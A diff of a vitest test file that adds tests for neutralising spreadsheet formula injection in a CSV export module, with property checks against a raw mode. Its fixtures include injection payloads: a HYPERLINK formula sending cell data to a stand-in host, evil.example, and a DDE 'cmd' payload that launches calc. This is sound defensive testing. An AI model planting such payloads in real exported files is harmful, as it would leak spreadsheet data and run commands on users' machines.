@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { stringify } from 'csv-stringify/sync';
-import { csvCell, csvField, csvRecord, csvRowWriter } from '../../src/export/csv-format.js';
+import { csvCell, csvField, csvRecord, csvRowWriter, csvSafeCell, neutraliseFormula } from '../../src/export/csv-format.js';
 import { parseCsvRows } from '../helpers/csv.js';
 
 describe('csv format', () => {
@@ -66,13 +66,48 @@ describe('csv format', () => {
         const width = records[0]!.length;
         const rows = records.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? null));
         const columns = Array.from({ length: width }, (_, i) => `c${i}`);
-        const line = csvRowWriter(columns);
+        const line = csvRowWriter(columns, { raw: true });
         const mine = rows.map((r) => line(Object.fromEntries(r.map((v, i) => [`c${i}`, v])))).join('');
         const cells = rows.map((r) => r.map(reference));
         expect(mine).toBe(stringify(cells, { record_delimiter: 'windows', quote_record_delimiter: true }));
         expect(parseCsvRows(csvRecord(columns) + mine)).toEqual([columns, ...cells]);
       }),
       { numRuns: 500 },
+    );
+  });
+
+  it('puts a quote before text a spreadsheet would run as a formula', () => {
+    expect(neutraliseFormula('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(neutraliseFormula('+cmd|\' /C calc\'!A0')).toBe(`'+cmd|' /C calc'!A0`);
+    expect(neutraliseFormula('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
+    expect(neutraliseFormula('-2+3')).toBe(`'-2+3`);
+    expect(neutraliseFormula('\t=1+1')).toBe(`'\t=1+1`);
+    expect(neutraliseFormula('\r=1+1')).toBe(`'\r=1+1`);
+    expect(csvSafeCell('=1+1,2')).toBe(`"'=1+1,2"`);
+  });
+
+  it('leaves numbers, text that is just a number, and other text as they are', () => {
+    expect(csvSafeCell(-2)).toBe('-2');
+    expect(csvSafeCell(-0.5)).toBe('-0.5');
+    expect(neutraliseFormula('-12.5')).toBe('-12.5');
+    expect(neutraliseFormula('+3')).toBe('+3');
+    expect(neutraliseFormula('a = b')).toBe('a = b');
+    expect(neutraliseFormula('')).toBe('');
+    expect(neutraliseFormula("'=already quoted")).toBe("'=already quoted");
+    expect(csvRowWriter(['a', 'b'])({ a: '=1+1', b: -3 })).toBe(`'=1+1,-3\r\n`);
+    expect(csvRowWriter(['a', 'b'], { raw: true })({ a: '=1+1', b: -3 })).toBe('=1+1,-3\r\n');
+  });
+
+  it('in the default mode writes what the raw mode writes, with only formula text changed', () => {
+    fc.assert(
+      fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (cells) => {
+        const columns = cells.map((_, i) => `c${i}`);
+        const row = Object.fromEntries(cells.map((v, i) => [`c${i}`, v]));
+        const safe = parseCsvRows(csvRowWriter(columns)(row))[0]!;
+        const raw = parseCsvRows(csvRowWriter(columns, { raw: true })(row))[0]!;
+        safe.forEach((cell, i) => expect(cell).toBe(typeof cells[i] === 'string' ? neutraliseFormula(raw[i]!) : raw[i]));
+      }),
+      { numRuns: 300 },
     );
   });
 });
